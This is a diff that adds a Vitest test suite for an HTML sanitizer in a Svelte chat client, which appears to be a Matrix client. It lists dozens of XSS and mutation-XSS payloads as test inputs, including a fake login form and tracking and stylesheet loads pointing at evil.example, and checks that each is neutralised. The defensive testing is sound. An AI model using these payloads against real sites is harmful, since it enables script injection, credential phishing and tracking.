@@ -1,0 +1,159 @@
+import { flushSync, mount, unmount } from "svelte";
+import { afterEach, expect, test, vi } from "vitest";
+import { cleanHtml, MAX_HTML } from "./clean-html.ts";
+import Html from "./Html.svelte";
+
+let stop: (() => void) | null = null;
+afterEach(() => {
+  stop?.();
+  stop = null;
+  document.body.replaceChildren();
+});
+
+function show(html: string): { readonly box: HTMLElement; readonly onlink: ReturnType<typeof vi.fn> } {
+  const onlink = vi.fn();
+  const component = mount(Html, { target: document.body, props: { html, text: "as text", onlink } });
+  flushSync();
+  stop = () => void unmount(component);
+  return { box: document.body, onlink };
+}
+
+const allowed =
+  "A B BLOCKQUOTE BR BUTTON CAPTION CODE DEL DETAILS DIV EM H1 H2 H3 H4 H5 H6 HR I LI OL P PRE S SPAN STRONG SUB SUMMARY SUP TABLE TBODY TD TH THEAD TR U UL".split(
+    " ",
+  );
+
+// Script, styles, handlers, other schemes, foreign content, and the nestings that change meaning when parsed twice.
+const hostile = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<img src=https://evil.example/track.png>",
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" java\tscript:alert(1)">x</a>',
+  '<a href="&#x6A;avascript:alert(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="file:///etc/passwd">x</a>',
+  '<a href="https://example.org" target="_top" onclick="alert(1)">x</a>',
+  "<svg onload=alert(1)><path/></svg>",
+  "<svg><style><img src=x onerror=alert(1)></style></svg>",
+  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
+  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+  "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
+  '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
+  '<div class="dialog row spoiler-open" id="app" name="body">x</div>',
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<object data='javascript:alert(1)'></object><embed src=x>",
+  "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
+  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+  "<base href=https://evil.example><link rel=stylesheet href=https://evil.example/x.css>",
+  "<video src=https://evil.example/a.mp4 autoplay></video><audio src=x></audio>",
+  "<template><img src=x onerror=alert(1)></template>",
+  "<textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>",
+  "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x>",
+  "<details open ontoggle=alert(1)><summary>x</summary></details>",
+  "<p onmouseover=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</p>",
+  '<span data-mx-color="red;background:url(https://evil.example)">x</span>',
+  '<span data-mx-color="#ff0000" data-row="x" data-item-id="$1" data-kind="message">x</span>',
+  "<a href='https://example.org'><a href='javascript:alert(1)'>x</a></a>",
+  "<x onclick=alert(1)>x</x><custom-element is=button>x</custom-element>",
+  "<table><tr><td><img src=x onerror=alert(1)></table>",
+  "<b><p><b><p><i><table><b><script>alert(1)</script>",
+  "<mx-reply><blockquote>quote of an old client</blockquote></mx-reply>",
+];
+test.each(hostile)("hostile: %s", (html) => {
+  const { box } = show(html);
+  for (const element of box.querySelectorAll(".html *")) {
+    expect(allowed).toContain(element.tagName);
+    for (const { name, value } of element.attributes) {
+      if (name === "style") expect(value).toMatch(/^--wished-(colour|ground): #[0-9a-f]{6};$/);
+      expect(name).not.toMatch(
+        /^on|^src|^srcdoc$|^id$|^name$|^target$|^action$|^data-(row|item|kind)|autofocus/,
+      );
+      if (name === "href") expect(value).toMatch(/^(https?|mailto):/);
+      if (name === "class") expect(value).not.toMatch(/dialog|row/);
+    }
+  }
+  expect(box.innerHTML).not.toMatch(/evil\.example\/(x|track|a)|url\(|quote of an old/);
+});
+
+test("what was made safe does not become unsafe when it is parsed again", () => {
+  for (const html of hostile) {
+    const once = document.createElement("div");
+    once.append(cleanHtml(html) ?? "");
+    const twice = document.createElement("div");
+    twice.innerHTML = once.innerHTML;
+    expect(
+      twice.querySelector("script,style,svg,math,img,iframe,form,input,[onerror],[onload],[onclick]"),
+    ).toBeNull();
+  }
+});
+
+test("nesting a thousand deep and a body of a megabyte are survived", () => {
+  expect(show("<blockquote>".repeat(1000) + "deep").box.textContent).toContain("deep");
+  expect(cleanHtml("x".repeat(MAX_HTML + 1))).toBeNull();
+});
+
+test("what is too large is shown as its plain text", () => {
+  expect(show("x".repeat(MAX_HTML + 1)).box.textContent).toBe("as text");
+});
+
+test("formatting of the specification stays", () => {
+  const { box } = show(
+    '<h1>T</h1><p><b>b</b> <del>d</del> <sub>s</sub></p><ol start="3"><li>x</li></ol><pre><code class="language-ts evil">c</code></pre>',
+  );
+  expect(box.querySelector("ol")?.getAttribute("start")).toBe("3");
+  expect(box.querySelector("code")?.className).toBe("language-ts");
+  expect(box.querySelector("del")?.textContent).toBe("d");
+});
+
+test("a link shows where it leads, and only the app opens it", () => {
+  const { box, onlink } = show('<a href="https://example.org/x">https://bank.example</a>');
+  const link = box.querySelector("a")!;
+  expect(link.title).toBe("https://example.org/x");
+  const click = new MouseEvent("click", { bubbles: true, cancelable: true });
+  link.dispatchEvent(click);
+  expect(click.defaultPrevented).toBe(true);
+  expect(onlink).toHaveBeenCalledExactlyOnceWith("https://example.org/x");
+});
+
+test("a spoiler is closed to eye, keyboard and screen reader until it is asked for", () => {
+  const { box, onlink } = show(
+    '<span data-mx-spoiler="the end">the <a href="https://x.example">butler</a></span>',
+  );
+  const spoiler = box.querySelector<HTMLElement>(".spoiler")!;
+  expect(spoiler.getAttribute("role")).toBe("button");
+  expect(spoiler.getAttribute("aria-label")).toContain("the end");
+  expect(spoiler.querySelector(".spoiler-text")?.hasAttribute("inert")).toBe(true);
+  spoiler.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true, cancelable: true }));
+  expect(onlink).not.toHaveBeenCalled();
+  expect(spoiler.className).toBe("spoiler-open");
+  expect(spoiler.querySelector(".spoiler-text")?.hasAttribute("inert")).toBe(false);
+  expect(spoiler.hasAttribute("role")).toBe(false);
+});
+
+test("colours are taken as #rrggbb only, and never as style attributes of the sender", () => {
+  const { box } = show('<span data-mx-color="#12ab9f">a</span><span data-mx-bg-color="url(x)">b</span>');
+  const [first, second] = box.querySelectorAll<HTMLElement>("span");
+  expect(first?.style.getPropertyValue("--wished-colour")).toBe("#12ab9f");
+  expect(second?.getAttribute("style")).toBeNull();
+});
+
+test("pictures in a body are words, not requests", () => {
+  const { box } = show('<p>look <img src="mxc://example.org/a" alt="a cat"></p>');
+  expect(box.querySelector("img")).toBeNull();
+  expect(box.querySelector(".html-image")?.textContent).toBe("a cat");
+});
+
+test("code can be copied and scrolls by keyboard", async () => {
+  const writeText = vi.fn(() => Promise.resolve());
+  vi.stubGlobal("navigator", { ...navigator, clipboard: { writeText } });
+  const { box } = show("<pre><code>let a = 1;</code></pre>");
+  expect(box.querySelector("pre")?.tabIndex).toBe(0);
+  box.querySelector<HTMLElement>(".code-copy")?.click();
+  await vi.waitFor(() => expect(box.querySelector(".code-copy")?.textContent).toBe("Copied"));
+  expect(writeText).toHaveBeenCalledWith("let a = 1;");
+  vi.unstubAllGlobals();
+});
